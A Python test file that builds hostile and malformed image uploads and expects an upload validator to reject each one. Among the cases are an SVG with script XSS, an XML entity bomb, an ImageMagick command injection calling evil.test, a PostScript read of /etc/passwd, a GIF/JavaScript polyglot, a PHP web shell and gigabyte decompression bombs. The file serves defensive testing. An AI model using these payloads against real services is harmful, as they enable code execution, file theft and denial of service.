import struct
import zlib

import cv2
import numpy as np

from tests.media.hostile import BROKEN, EMPTY, PICTURE_TOO_LARGE, TOO_MUCH, case, encoded, film, song

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'


def chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png(
    width: int, height: int, *chunks: bytes, depth: int = 8, colour: int = 2, pixels: bytes | None = None
) -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    packed = zlib.compress(bytes(100_000), 9) if pixels is None else pixels
    body = b"".join(chunks) + chunk(b"IDAT", packed)
    return b"\x89PNG\r\n\x1a\n" + head + body + chunk(b"IEND", b"")


def zeros(count: int) -> bytes:
    """So many bytes of nought, packed: the same packed megabyte again and again, its checksum left out."""
    packer = zlib.compressobj(9, wbits=-15)
    block = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    return b"\x78\xda" + block * (count >> 20) + b"\x03\0"


def jpeg(width: int = 400, height: int = 400) -> bytes:
    noise = np.random.default_rng(1).integers(0, 255, (height, width, 3), np.uint8)
    return cv2.imencode(".jpg", noise)[1].tobytes()


def jpeg_of(width: int, height: int) -> bytes:
    """A small picture that says it is another size."""
    data = bytearray(jpeg(64, 64))
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def webp(*chunks: bytes) -> bytes:
    body = b"WEBP" + b"".join(chunks)
    return b"RIFF" + struct.pack("<I", len(body)) + body


def webp_chunk(name: bytes, data: bytes) -> bytes:
    return name + struct.pack("<I", len(data)) + data + bytes(len(data) % 2)


@case("target_image", EMPTY)
def no_picture_at_all() -> bytes:
    return b""


@case("target_image")
def a_drawing_with_a_script() -> bytes:
    return SVG


@case("target_image")
def a_drawing_behind_an_xml_bomb() -> bytes:
    laughs = b"".join(
        b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10 if n else b"lol") for n in range(10)
    )
    return b'<?xml version="1.0"?><!DOCTYPE svg [' + laughs + b"]><svg><text>&a9;</text></svg>"


@case("target_image")
def commands_of_a_drawing_program() -> bytes:
    return b"push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://evil.test/\"|id\")'\npop graphic-context\n"


@case("target_image")
def a_printers_program() -> bytes:
    return b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) (r) file\n"


@case("target_image")
def a_gif() -> bytes:
    return encoded(".gif", "-f", "lavfi", "-i", "testsrc=s=400x400:d=0.1:r=10")


@case("target_image")
def a_gif_that_is_a_script() -> bytes:
    return b"GIF89a/*" + bytes(60) + b"*/=1;alert(document.domain)//"


@case("target_image")
def a_bitmap() -> bytes:
    return encoded(".bmp", "-f", "lavfi", "-i", "testsrc=s=400x400:d=0.1:r=10", "-frames:v", 1)


@case("target_image")
def a_tiff() -> bytes:
    return encoded(".tiff", "-f", "lavfi", "-i", "testsrc=s=400x400:d=0.1:r=10", "-frames:v", 1)


@case("target_image", BROKEN)
def a_page_with_the_first_bytes_of_a_jpeg() -> bytes:
    return jpeg()[:300] + b"<script>alert(1)</script>" * 100


@case("target_image", BROKEN)
def a_server_script_with_the_first_bytes_of_a_png() -> bytes:
    return png(400, 400)[:60] + b"<?php system($_GET['c']); ?>" * 100


@case("target_image", PICTURE_TOO_LARGE)
def a_png_of_three_gigapixels() -> bytes:
    return png(60_000, 60_000)


@case("target_image", PICTURE_TOO_LARGE)
def a_png_of_negative_sides() -> bytes:
    return png(0x80000001, 0x80000001)


@case("target_image", PICTURE_TOO_LARGE)
def a_jpeg_of_four_gigapixels() -> bytes:
    return jpeg_of(65_000, 65_000)


@case("target_image", PICTURE_TOO_LARGE)
def a_webp_of_281_terapixels() -> bytes:
    return webp(webp_chunk(b"VP8X", bytes(4) + b"\xff" * 6))


@case("target_image", BROKEN)
def a_png_with_two_heads() -> bytes:
    """A small one in front, for whoever looks only there."""
    second = chunk(b"IHDR", struct.pack(">IIBBBBB", 30_000, 30_000, 8, 2, 0, 0, 0))
    return png(400, 400, second, pixels=zeros(1 << 26))


@case("target_image", BROKEN)
def a_png_of_400_megabytes_in_one() -> bytes:
    return png(9_999, 5_000, depth=16, colour=6, pixels=zeros(400 << 20))


@case("target_image", TOO_MUCH)
def a_colour_profile_of_a_gigabyte() -> bytes:
    return png(400, 400, chunk(b"iCCP", b"x\0\0" + zeros(1 << 30)), pixels=b"")


@case("target_image", BROKEN)
def words_of_a_gigabyte() -> bytes:
    return png(400, 400, chunk(b"zTXt", b"Comment\0\0" + zeros(1 << 30)), pixels=b"")


@case("target_image", BROKEN)
def a_png_without_pixels() -> bytes:
    return png(400, 400, pixels=b"")


@case("target_image", BROKEN)
def a_png_without_sides() -> bytes:
    return png(0, 0)


@case("target_image", BROKEN)
def a_jpeg_without_sides() -> bytes:
    return jpeg_of(0, 0)


@case("target_image", BROKEN)
def half_a_jpeg() -> bytes:
    return jpeg()[: len(jpeg()) // 2]


@case("target_image", BROKEN)
def half_a_png() -> bytes:
    return png(400, 400)[:80]


@case("target_image", BROKEN)
def half_a_webp() -> bytes:
    whole = cv2.imencode(".webp", np.random.default_rng(1).integers(0, 255, (400, 400, 3), np.uint8))[
        1
    ].tobytes()
    return whole[: len(whole) // 2]


@case("target_image", BROKEN)
def a_moving_webp_without_a_frame() -> bytes:
    head = webp_chunk(b"VP8X", b"\x02\0\0\0" + b"\x8f\x01\0" * 2)
    return webp(head, webp_chunk(b"ANIM", bytes(6)))


@case("target_image", BROKEN)
def a_webp_with_a_larger_picture_inside() -> bytes:
    lossless = b"\x2f" + struct.pack("<I", 16_383 | 16_383 << 14) + bytes(200)
    return webp(webp_chunk(b"VP8X", bytes(4) + b"\x8f\x01\0" * 2), webp_chunk(b"VP8L", lossless))


@case("target_image", "Your picture is 1 by 1 px. Use one of 300 px a side or more.", "too_small")
def one_pixel() -> bytes:
    return jpeg(1, 1)


@case(
    "target_image",
    "Your picture is too long and narrow. Crop it to 2.5 times its width or less.",
    "wrong_ratio",
)
def a_picture_like_a_string() -> bytes:
    return jpeg(9_000, 300)


@case("target_image", "Your picture is no still picture. Choose a JPEG, PNG or WebP picture.", "wrong_kind")
def a_film_by_the_name_of_a_picture() -> bytes:
    return film()


@case("target_image", "Your picture is no still picture. Choose a JPEG, PNG or WebP picture.", "wrong_kind")
def a_song_by_the_name_of_a_picture() -> bytes:
    return song()
